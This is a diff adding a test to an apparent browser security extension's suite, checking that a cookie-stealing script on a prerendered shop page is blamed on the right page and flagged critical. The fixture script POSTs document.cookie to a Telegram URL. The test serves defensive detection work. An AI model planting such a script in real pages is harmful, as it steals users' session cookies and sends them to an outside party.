@@ -169,6 +169,34 @@ describeEachBrowser('lifecycle', (context) => {
       expect(await recordedTabs()).toEqual([]);
     });
 
+    it('a shop page Chrome prerenders: its helper is judged on that page once it is shown, never on the page shown before', async () => {
+      const saq = await context.launch();
+      const tag = 'prerendered';
+      const helper = `fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {}); window.__sentWhilePrerendering = document.prerendering;`;
+      const next = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
+      // The page shown first asks the browser to prerender the next one (speculation rules, as a shop may).
+      const rules = JSON.stringify({ prerender: [{ source: 'list', urls: [next], eagerness: 'immediate' }] });
+      context.shop.setFixture(
+        '/kz/before-prerender',
+        `<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>before</title></head><body><a id="next" href="${next}">next</a><script type="speculationrules">${rules}</script></body></html>`,
+      );
+      const visit = await open(saq, '/kz/before-prerender');
+      const stolen = ofKind('exfiltration', mentions('api.telegram.org'));
+      // The next page is prerendered meanwhile, and its helper sends (it records whether that was while prerendering).
+      await sleep(3000);
+      const before = await saq.report(visit.tabId);
+      expect(before.pageUrl).toContain('/kz/before-prerender');
+      expect(before.verdicts.filter(stolen), "the prerendered page's send judged on the page shown").toEqual([]);
+      await Promise.all([visit.page.waitForNavigation(), visit.page.click('#next')]);
+      expect(await visit.page.evaluate(() => (window as { __sentWhilePrerendering?: boolean }).__sentWhilePrerendering)).toBe(true);
+      const after = await eventually(
+        () => saq.report(visit.tabId),
+        (r) => (r.pageUrl ?? '').includes(`life=${tag}`) && r.verdicts.some(stolen),
+        "the shown page's record, with its helper's send",
+      );
+      expect(after.severity).toBe('critical');
+    });
+
     it('the service worker stopped in the middle of a feed update: nothing half-stored, the alarm kept, the next refresh completes', async () => {
       const saq = await context.launch();
       const rulesPath = await publishFeed(context.shop, 2);
